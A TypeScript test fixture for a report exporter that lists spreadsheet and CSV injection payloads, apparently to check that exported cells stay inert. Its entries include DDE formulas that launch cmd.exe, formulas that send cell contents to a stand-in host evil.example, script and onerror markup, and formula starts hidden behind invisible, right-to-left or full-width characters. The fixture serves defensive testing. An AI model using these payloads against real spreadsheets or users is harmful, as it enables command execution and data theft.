/**
 * Texts that a spreadsheet may run, turn into something else, or show as what they are not, each with what it is about. Every
 * path a text takes out of a report (test/hostile/README.md lists them) is fed all of them and read back.
 */

export interface Payload {
  readonly text: string;
  readonly about: string;
  /** What a cell holds of it, where that is not the text itself: see `cleanText` in src/tables/inert-text.ts. */
  readonly cell?: string;
}

function all(about: string, ...texts: readonly string[]): Payload[] {
  return texts.map((text) => ({ text, about }));
}

/** The longest text that can be typed into a cell of Excel behind an apostrophe. */
const LONGEST = 32_766;

export const PAYLOADS: readonly Payload[] = [
  ...all('formula starts of Excel', '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=A1', '-A1', '=-1', '==1', '+-@=1'),
  ...all(
    'DDE: starts a program',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!A0',
    '|cmd /C calc',
  ),
  ...all(
    'sends the sheet away, or lures',
    '=HYPERLINK("https://evil.example/?"&A1,"点此")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example/"&A1,"//a")',
    '=IMAGE("https://evil.example/a.png")',
    "='file://evil.example/share/[b.xlsx]S'!A1",
    '=_xldudf_TOKENS("豆包")',
    '=_xlfn.FILTERXML("<a/>","//a")',
  ),
  ...all('a formula behind blanks', ' =1+1', '\t=1+1', '\n=1+1', '\u00a0=1+1', '\u3000=1+1'),
  { text: '\r=1+1', about: 'a formula behind a carriage return', cell: '\n=1+1' },
  { text: '\r\n@A1', about: 'a formula behind a line end of Windows', cell: '\n@A1' },
  ...all(
    'a formula behind what nobody sees',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u2060+1+1',
    '\u00ad-1+1',
    '\u180e@A1',
    '\u3164=1+1',
    '\ufe0f=1+1',
  ),
  ...all('shown from right to left', '\u202e=1+1', '\u200f=1+1', '\u2067=1+1\u2069', '甲\u202e乙'),
  ...all(
    'full-width and other forms that are folded',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    '﹦1',
    '⁼1',
    '﹣1',
    '＇=1',
  ),
  ...all("Excel's own mark for text", "'=1+1", "'", "''", "'甲", "'0001"),
  ...all(
    'new cells by separators and quotes of CSV',
    'a,=1+1',
    'a;=1+1;',
    'a\t=1+1',
    'a|=1+1',
    '",=1+1,"',
    '";=cmd|\' /C calc\'!A0;"',
    'a\n=1+1',
    'a\n"=1+1"',
    ', =1+1',
    "a,'=1+1",
    '"',
    '""',
    'a"b,c;d',
    ',,,',
  ),
  { text: 'a\u0085=b', about: 'a line end of old terminals', cell: 'a\n=b' },
  { text: 'a\u2028=b\u2029', about: "Unicode's own line ends", cell: 'a\n=b\n' },
  { text: 'a\u007f\u009bb', about: 'control characters beyond the first', cell: 'ab' },
  { text: '\u001f=1+1', about: 'a formula behind a unit separator', cell: '=1+1' },
  { text: '\u0000=1+1', about: 'a formula behind a null', cell: '=1+1' },
  { text: '甲\u0001乙\u0008丙\u001e', about: 'control characters no file can hold', cell: '甲乙丙' },
  { text: '甲\uffff乙\ufffe', about: 'no characters at all', cell: '甲乙' },
  { text: '甲\ud83d乙', about: 'the first half of a character', cell: '甲\ufffd乙' },
  { text: '\udc00=1', about: 'the second half of a character', cell: '\ufffd=1' },
  ...all('beyond the basic plane', '\u{20bb7}野家', '📈 = 涨'),
  ...all(
    "escapes of an .xlsx file's texts",
    '_x003D_1+1',
    '_x000D_',
    '_x0009_=1',
    '_x005F_x003D_',
    '_x0041_x003D_1',
    '_x00e9_x00E9_x00g9_',
    '__x0041__',
  ),
  ...all('markup', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '&lt;b&gt; &#61;1', ']]>', '<!--'),
  ...all(
    'numbers that are names',
    '000001',
    '0700',
    '1E5',
    '1e400',
    '0x1F',
    '12345678901234567890',
    '-5',
    '+86',
    '(1.2)',
  ),
  ...all('numbers in words of the report', '5%', '-3.39%', '1,234.5', '¥5', '1/2', '.5', '5.'),
  ...all('dates that are names', '3-18', '2026-03', '1/2/2026', '3月18日', '12:30', 'MAR1', 'SEPT2', '2026Q1'),
  ...all(
    'truth and errors that are names',
    'TRUE',
    'FALSE',
    'true',
    '#REF!',
    '#N/A',
    '#NAME?',
    '#DIV/0!',
    'NULL',
    'NaN',
  ),
  ...all('text as it should be', '小星 3.0', 'a=b', '甲-W', '红日-W ', '  ', '多\n行'),
  ...all('the longest text', '长'.repeat(300), `=${'长'.repeat(300)}`, 'x'.repeat(LONGEST)),
  { text: '长'.repeat(40_000), about: 'longer than a cell', cell: `${'长'.repeat(LONGEST - 1)}…` },
  {
    text: `${'x'.repeat(LONGEST - 2)}📈📈`,
    about: 'longer than a cell, with a character across the end',
    cell: `${'x'.repeat(LONGEST - 2)}…`,
  },
];

/** What a cell must read of a payload, and be nothing but that text. */
export function cellOf({ text, cell }: Payload): string {
  return cell ?? text;
}

/** Short enough for a name in a test's title. */
export function titleOf({ text, about }: Payload): string {
  return `${about}: ${JSON.stringify(text.length > 60 ? `${text.slice(0, 20)}… (${text.length})` : text)}`;
}
